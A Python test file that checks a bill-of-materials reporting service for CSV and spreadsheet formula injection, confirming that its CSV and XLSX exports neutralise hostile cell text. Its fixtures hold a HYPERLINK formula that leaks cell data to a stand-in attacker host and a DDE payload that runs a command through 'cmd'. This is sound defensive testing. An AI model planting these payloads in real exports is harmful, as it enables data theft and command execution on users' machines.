"""Text a caller gave never reaches a spreadsheet as a formula (OWASP CSV Injection).

A BOM with hostile names, components and sources is posted through the API; every CSV and XLSX
the service renders of it (report on request, report job, comparison) is read back: no XLSX cell
is a formula, every CSV text cell that would start a formula carries a leading quote, numbers
(negative ones too) stay numbers, and the JSON report shows the text exactly as given.
SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Iterator
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.reports.conftest import DOWNSTREAM

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
HOSTILE = {
    "name": HYPERLINK,
    "plant": "+1+2",
    "component": "@SUM(1+1)*cmd|' /C calc'!A0",
    "line_source": "=1+2",
    "bom_source": "-2+3",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
    "error": "#N/A",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_footprint(client, example_bom_module) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    body = example_bom_module
    body["name"] = HOSTILE["name"]
    body["plant"]["name"] = HOSTILE["plant"]
    body["lines"][0]["component"] = HOSTILE["component"]
    body["lines"][0]["source"] = HOSTILE["line_source"]
    body["lines"][1]["component"] = HOSTILE["tab"]
    body["lines"][2]["component"] = HOSTILE["cr"]
    body["lines"][3]["component"] = HOSTILE["error"]
    body["sources"] = [HOSTILE["bom_source"]]
    response = client.post("/v1/boms", json=body)
    assert response.status_code == 201, response.text
    response = client.post(f"/v1/boms/{response.json()['id']}/footprints", json=DOWNSTREAM)
    assert response.status_code == 201, response.text
    return response.json()


@pytest.fixture(scope="module")
def example_bom_module() -> dict[str, Any]:
    import json

    from tests.conftest import EXAMPLES

    return dict(json.loads((EXAMPLES / "nmc811_pouch.json").read_text()))


def _get(client, url: str, **params: Any) -> bytes:  # type: ignore[no-untyped-def]
    response = client.get(url, params=params)
    assert response.status_code == 200, response.text
    return response.content


def _job_download(client, footprint_id: str, fmt: str) -> bytes:  # type: ignore[no-untyped-def]
    response = client.post(f"/v1/footprints/{footprint_id}/reports", json={"format": fmt})
    assert response.status_code == 202, response.text
    job = response.json()
    deadline = time.monotonic() + 60
    while job["status"] not in ("succeeded", "failed"):
        assert time.monotonic() < deadline, f"job {job['id']} still {job['status']}"
        time.sleep(0.05)
        job = client.get(f"/v1/jobs/{job['id']}").json()
    assert job["status"] == "succeeded", job["error"]
    return _get(client, job["result"]["url"])


def _spreadsheets(client, footprint_id: str, other_id: str, fmt: str) -> Iterator[bytes]:  # type: ignore[no-untyped-def]
    yield _get(client, f"/v1/footprints/{footprint_id}/report", format=fmt)
    yield _job_download(client, footprint_id, fmt)
    yield _get(client, "/v1/reports/comparison", ids=f"{footprint_id},{other_id}", format=fmt)


def _xlsx_cells(body: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_no_xlsx_cell_is_a_formula_and_the_text_is_kept(
    client, hostile_footprint, four_stage_footprint
) -> None:  # type: ignore[no-untyped-def]
    """Every text cell reads back as type "s" with the original text; numbers stay numbers."""
    for body in _spreadsheets(client, hostile_footprint["id"], four_stage_footprint["id"], "xlsx"):
        cells = _xlsx_cells(body)
        formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
        assert formulas == []
        assert not [c for c in cells if c.data_type == "e"]
        texts = {c.value for c in cells if c.data_type == "s"}
        assert HYPERLINK in texts
        assert any(isinstance(c.value, float) for c in cells)
    report_cells = _xlsx_cells(
        _get(client, f"/v1/footprints/{hostile_footprint['id']}/report", format="xlsx")
    )
    texts = {c.value for c in report_cells if c.data_type == "s"}
    # XML reads a carriage return back as a line feed, so the tab and CR texts are left out.
    for key in ("name", "plant", "component", "line_source", "bom_source", "error"):
        assert HOSTILE[key] in texts, key


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode(), newline="")) for cell in row]


def test_csv_cells_that_would_start_a_formula_are_quoted(
    client, hostile_footprint, four_stage_footprint
) -> None:  # type: ignore[no-untyped-def]
    for body in _spreadsheets(client, hostile_footprint["id"], four_stage_footprint["id"], "csv"):
        cells = _csv_cells(body)
        live = [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
        assert live == []
        assert "'" + HYPERLINK in cells
    cells = _csv_cells(
        _get(client, f"/v1/footprints/{hostile_footprint['id']}/report", format="csv")
    )
    # The report CSV carries the identification and the numbers (not the sources).
    for key in ("name", "plant", "component", "tab", "cr"):
        assert "'" + HOSTILE[key] in cells, key


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_json_report_keeps_the_text_as_given(client, hostile_footprint) -> None:  # type: ignore[no-untyped-def]
    report = client.get(f"/v1/footprints/{hostile_footprint['id']}/report").json()
    assert report["identification"]["cell_model"] == HOSTILE["name"]
    assert report["identification"]["plant_name"] == HOSTILE["plant"]
    components = {c["name"] for c in report["components"]}
    assert {HOSTILE[k] for k in ("component", "error", "tab", "cr")} <= components
    sources = {s["source"] for s in report["sources"]}
    for key in ("line_source", "bom_source"):
        assert HOSTILE[key] in sources, key


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "+1"),  # a signed number is a number
        ("-12.5", "-12.5"),
        ("-1.5e-3", "-1.5e-3"),
        ("-1+2", "'-1+2"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_csv_text(text: str, expected: str) -> None:
    from app.reports.tabular import csv_text

    assert csv_text(text) == expected


def _comparison(cell_model: str, component_value: float):  # type: ignore[no-untyped-def]
    import uuid

    from app.reports.schemas import ComparisonColumn, ComparisonReport, Results

    results = Results(**{name: 1.0 for name in Results.model_fields})
    column = ComparisonColumn(
        footprint_id=uuid.UUID(int=1),
        cell_model=cell_model,
        plant_grid_region="US-SRTV",
        input_sha256="0" * 64,
        results=results,
        stages={"raw_material_acquisition": 1.0},
        components={"=1+2": component_value},
    )
    return ComparisonReport(functional_unit_application="ev_m1_n1", footprints=[column])


def test_control_characters_and_negative_numbers_in_spreadsheets() -> None:
    """XML cannot carry U+0007, so the XLSX shows U+FFFD there (rather than failing); a
    negative number stays a number in both the XLSX and the CSV (-0.25, not "'-0.25")."""
    from app.reports.tabular import comparison_csv, comparison_xlsx

    comparison = _comparison("bell\x07=1", -0.25)
    cells = _xlsx_cells(comparison_xlsx(comparison))
    assert "bell\ufffd=1" in {c.value for c in cells}
    assert not [c for c in cells if c.data_type == "f"]
    component = next(row for row in _rows(cells) if row[3] == "=1+2")
    assert component[4] == -0.25 and isinstance(component[4], float)
    rows = list(csv.reader(io.StringIO(comparison_csv(comparison).decode(), newline="")))
    component_csv = next(row for row in rows if row[3] == "'=1+2")
    assert component_csv[4] == "-0.25"


def _rows(cells: list[Any]) -> list[list[Any]]:
    rows: dict[tuple[str, int], list[Any]] = {}
    for cell in cells:
        rows.setdefault((cell.parent.title, cell.row), []).append(cell.value)
    return list(rows.values())
